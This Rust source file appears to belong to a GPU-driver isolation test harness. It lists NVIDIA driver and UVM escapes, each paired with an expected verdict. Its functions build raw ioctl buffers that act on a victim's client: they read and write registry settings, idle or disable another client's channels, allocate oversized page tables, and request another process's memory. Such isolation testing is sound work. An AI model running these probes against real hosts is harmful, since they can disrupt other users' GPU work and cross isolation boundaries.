// SPDX-License-Identifier: GPL-2.0
//! Escapes that containers have no use for (nvidia-protocol 6.3), and UVM's tools.

use super::{
    attack::attacks,
    clients::disable,
    scene::{escape, told, Attacker, MIB, OWN},
};
use crate::{
    bytes::{put_u32, put_u64, u32_at, u64_at},
    guest::{
        rm,
        tools::{open_node, Verdict},
    },
    sys,
};

attacks! {
    "the driver's settings read through another's client (ACCESS_REGISTRY)": "osapi.c:RmAccessRegistry",
        Passes, Gpu, |a| registry(a, 1);
    "the driver's settings written (ACCESS_REGISTRY)": "os.c:osWriteRegistryDword",
        Refuses, Gpu, |a| registry(a, 2);
    "another's channels idled (NV_ESC_RM_IDLE_CHANNELS)": "rmapi_deprecated_misc.c:RmDeprecatedIdleChannels",
        NotModelled, Told, idle;
    "a control in an envelope (IOCTL_XFER_CMD)": "nv.c:nvidia_ioctl",
        Passes, Victim, envelope;
    "an object by the oldest way (NV_ESC_RM_ALLOC_OBJECT)": "entry_points.c:Nv01AllocObjectWithSecInfo",
        Passes, Told, alloc_object;
    "the whole heap's size, the older way (VID_HEAP_CONTROL)": "rmapi_deprecated_vidheapctrl.c:_nvos32FunctionInfo",
        Passes, Told, heap_info;
    "doorbells mapped for the GPU (RM_MAP_MEMORY_DMA)": "usermode_api.c:usrmodeGetMemInterMapParams_IMPL",
        Passes, Told, map_doorbell;
    "the GPU's memory as a range's page tables (class 0x50a0)": "gpu_vaspace.c:gvaspaceAlloc_IMPL",
        Passes, Told, range_tables;
    "registers as an object (class 0x3f)": "rmapi_deprecated_allocmemory.c:_rmAllocMemoryLocalPrivileged",
        NotModelled, Told, registers;
    "device registers as host memory (class 0x71, uncached)": "osmemdesc.c:osCreateOsDescriptorFromIoMemory",
        NotModelled, Told, io_memory;
    "the interrupt register (QUERY_DEVICE_INTR)": "nv.c:nvidia_ioctl",
        Passes, Gpu, |a| told(escape(a.client.gpu, 213, &mut [0; 8], 4));
    "the state of any adapter (STATUS_CODE)": "osapi.c:rm_get_adapter_status",
        Passes, Told, adapter;
    "the driver's log (LOCKLESS_DIAGNOSTIC)": "escape.c:RmIoctl",
        Refuses, Told, |a| a.escape(0x5f, &mut [0; 64], 0);
    "the size of the host's memory blocks set (SYS_PARAMS)": "nv.c:nvidia_ioctl",
        Passes, Gpu, |a| {
            // From then on any other size is refused, also the host's own.
            let mut size = (128 * MIB).to_le_bytes();
            let asked = sys::ioctl(a.client.ctl, 0xc008_46d6, &mut size);
            asked.map(drop).map_err(|errno| format!("errno {errno}"))
        };
    "video memory onlined for the host (SET_NUMA_STATUS)": "nv.c:nvidia_ioctl",
        Refuses, Told, |a| told(escape(a.client.gpu, 216, &mut [0; 4], 0));
    "the I2C busses (NV_ESC_RM_I2C_ACCESS)": "rmapi_deprecated_misc.c:RmDeprecatedI2CAccess",
        NotModelled, Told, |a| told(escape(a.client.gpu, 0x39, &mut [0; 32], 24));
    "an event's data (NV_ESC_RM_GET_EVENT_DATA)": "escape.c:RmIoctl",
        Refuses, Told, |a| a.escape(0x52, &mut [0; 24], 16);
    "a context for DMA (NV_ESC_RM_ALLOC_CONTEXT_DMA2)": "escape.c:RmIoctl",
        Refuses, Told, |a| a.escape(0x54, &mut [0; 56], 48);
    "a callback at the screen's refresh (NV_ESC_RM_ADD_VBLANK_CALLBACK)": "escape.c:RmIoctl",
        Refuses, Told, |a| a.escape(0x56, &mut [0; 40], 32);
    "a context for DMA bound (NV_ESC_RM_BIND_CONTEXT_DMA)": "escape.c:RmIoctl",
        NotModelled, Told, |a| a.escape(0x59, &mut [0; 16], 12);
    "an object behind a descriptor, the older way (NV_ESC_RM_EXPORT_OBJECT_TO_FD)": "escape.c:RmIoctl",
        Refuses, Told, |a| a.escape(0x5c, &mut [0; 24], 20);
    "an object from a descriptor, the older way (NV_ESC_RM_IMPORT_OBJECT_FROM_FD)": "escape.c:RmIoctl",
        Refuses, Told, |a| a.escape(0x5d, &mut [0; 24], 20);
    "a file that is none of the driver's (REGISTER_FD)": "nv.c:nv_get_file_private",
        Refuses, Told, register_null;
    "clients that outlive their file (REGISTER_FD)": "escape.c:RmIoctl",
        Passes, Told, outlived;
    "another process's memory read (UVM_TOOLS_READ_PROCESS_MEMORY)": "uvm_tools.c:uvm_api_tools_read_process_memory",
        NotModelled, Told, |a| uvm_request(a, 62, 32);
    "events of another's address space (UVM_TOOLS_INIT_EVENT_TRACKER)": "uvm_tools.c:uvm_api_tools_init_event_tracker",
        NotModelled, Told, |a| uvm_request(a, 56, 48);
    "what others left (UVM_CLEAN_UP_ZOMBIE_RESOURCES)": "uvm_va_range.c:uvm_api_clean_up_zombie_resources",
        NotModelled, Told, |a| uvm_request(a, 69, 0);
}

/// NVOS38 on the victim's client; 1 reads, 2 writes.
fn registry(a: &Attacker, access: u32) -> Verdict {
    let name = c"ResmanDebugLevel".to_bytes();
    let mut outer = [0; 72];
    put_u32(&mut outer, 24, 16);
    put_u64(&mut outer, 32, name.as_ptr() as u64);
    put_u32(&mut outer, 0, a.victim.client);
    put_u32(&mut outer, 4, a.victim.client);
    put_u32(&mut outer, 8, access);
    a.escape(0x4d, &mut outer, 64)
}

fn idle(a: &Attacker) -> Verdict {
    let (clients, channels) = ([a.victim.client], [super::victims::CHANNEL]);
    let mut outer = [0; 56];
    put_u32(&mut outer, 0, a.client.handle);
    put_u32(&mut outer, 12, 1);
    put_u64(&mut outer, 16, clients.as_ptr() as u64);
    put_u64(&mut outer, 24, [rm::DEVICE_HANDLE].as_ptr() as u64);
    put_u64(&mut outer, 32, channels.as_ptr() as u64);
    a.escape(0x41, &mut outer, 48)
}

/// FIFO_DISABLE_CHANNELS, which switches the victim's channel on or off: other than it is on the
/// driver after the attack of that name.
fn envelope(a: &Attacker) -> Verdict {
    let mut params = disable(a.victim.client, false);
    let mut outer = [0; 32];
    put_u32(&mut outer, 0, a.client.handle);
    put_u32(&mut outer, 4, rm::SUBDEVICE_HANDLE);
    put_u32(&mut outer, 8, 0x2080_110b);
    put_u64(&mut outer, 16, params.as_mut_ptr() as u64);
    put_u32(&mut outer, 24, 536);
    rm::xfer(a.client.ctl, 0x2a, &mut outer).map_err(|e| format!("errno {e}"))?;
    match u32_at(&outer, 28) {
        0 => Ok(()),
        status => Err(format!("status {status:#x}")),
    }
}

fn alloc_object(a: &Attacker) -> Verdict {
    let mut outer = [0; 20];
    for (at, value) in [
        (0, a.client.handle),
        (4, rm::SUBDEVICE_HANDLE),
        (8, OWN),
        (12, 0x208f),
    ] {
        put_u32(&mut outer, at, value);
    }
    a.escape(0x28, &mut outer, 16)
}

fn heap_info(a: &Attacker) -> Verdict {
    let mut outer = [0; 184];
    put_u32(&mut outer, 0, a.client.handle);
    put_u32(&mut outer, 4, rm::DEVICE_HANDLE);
    put_u32(&mut outer, 8, 5);
    a.escape(0x4a, &mut outer, 20)?;
    match u64_at(&outer, 24) {
        total if total > super::scene::LIMIT => Ok(()),
        total => Err(format!("told of {} MiB", total / MIB)),
    }
}

fn map_doorbell(a: &Attacker) -> Verdict {
    let made = a.alloc(rm::SUBDEVICE_HANDLE, OWN, rm::USERMODE, &mut [1, 0]);
    a.prepare("doorbells", made)?;
    a.space(OWN + 1, &mut [0; 56])?;
    a.map_dma((OWN, OWN + 1), 0x1_0000, 0).map(drop)
}

/// A range of 1 TiB, whose tables are 2 GiB and more: twice the limit.
fn range_tables(a: &Attacker) -> Verdict {
    let mut params = rm::memory_params(a.client.handle, 1 << 40);
    put_u32(&mut params, 8, 0x8_0000);
    put_u32(&mut params, 24, 0);
    a.alloc(rm::DEVICE_HANDLE, OWN, 0x50A0, &mut params)
}

/// With graphics, which the attacker has not, it is answered; nothing is made.
fn registers(a: &Attacker) -> Verdict {
    let mut outer = [0; 56];
    put_u32(&mut outer, 0, a.client.handle);
    put_u32(&mut outer, 4, rm::DEVICE_HANDLE);
    put_u32(&mut outer, 8, OWN);
    put_u32(&mut outer, 12, 0x3f);
    told(escape(a.client.gpu, 0x27, &mut outer, 40))
}

fn io_memory(a: &Attacker) -> Verdict {
    let mut outer = [0; 56];
    put_u32(&mut outer, 0, a.client.handle);
    put_u32(&mut outer, 4, rm::DEVICE_HANDLE);
    put_u32(&mut outer, 8, OWN);
    put_u32(&mut outer, 12, 0x71);
    // Contiguous and uncached: what the driver takes for registers.
    put_u32(&mut outer, 16, 0x4000_0000);
    put_u64(&mut outer, 32, MIB - 1);
    told(escape(a.client.gpu, 0x27, &mut outer, 40))
}

fn adapter(a: &Attacker) -> Verdict {
    let mut outer = [0; 12];
    (outer[4], outer[5]) = a.victim.gpus.pci;
    a.escape(209, &mut outer, 8)
}

fn register_null(a: &Attacker) -> Verdict {
    let gpu = open_node(&a.folder, &format!("nvidia{}", super::scene::GPU));
    let gpu = a.prepare("a file of the GPU", gpu)?;
    register(gpu, a.prepare("/dev/null", open_node("/dev", "null"))?)
}

/// A client of a control file that was bound to another one belongs to that one. It is still there
/// when its own file is closed, with all that it has.
fn outlived(a: &Attacker) -> Verdict {
    let control = || open_node(&a.folder, "nvidiactl");
    let file = a.prepare("a control file", control())?;
    let owner = a.prepare("another control file", control())?;
    let bound = register(file, owner).and_then(|()| {
        let client = rm::alloc(file, 0, 0, 0, rm::ROOT, &mut []);
        client.map_err(|failure| failure.to_string())
    });
    let _ = sys::close(file);
    let kept = bound.and_then(|client| {
        let freed = rm::free(owner, client, client);
        freed.map_err(|failure| format!("gone with its file: {failure}"))
    });
    let _ = sys::close(owner);
    kept
}

/// REGISTER_FD.
fn register(file: i32, control: i32) -> Verdict {
    let mut outer = u32::try_from(control).unwrap_or(0).to_le_bytes();
    let request = 3 << 30 | 4 << 16 | crate::layout::NV_TYPE << 8 | 201;
    let registered = sys::ioctl(file, request, &mut outer);
    registered.map(drop).map_err(|e| format!("errno {e}"))
}

/// A request of UVM's with zeros, on an address space of the attacker's own; the status is at `at`.
fn uvm_request(a: &Attacker, cmd: u32, at: usize) -> Verdict {
    let fd = a.prepare("a UVM file", open_node(&a.folder, "nvidia-uvm"))?;
    let begun = sys::ioctl(fd, crate::layout::UVM_INITIALIZE, &mut [0; 16]);
    a.prepare("UVM_INITIALIZE", begun)?;
    let mut params = [0; 64];
    sys::ioctl(fd, cmd, &mut params).map_err(|e| format!("errno {e}"))?;
    match u32_at(&params, at) {
        0 => Ok(()),
        status => Err(format!("status {status:#x}")),
    }
}
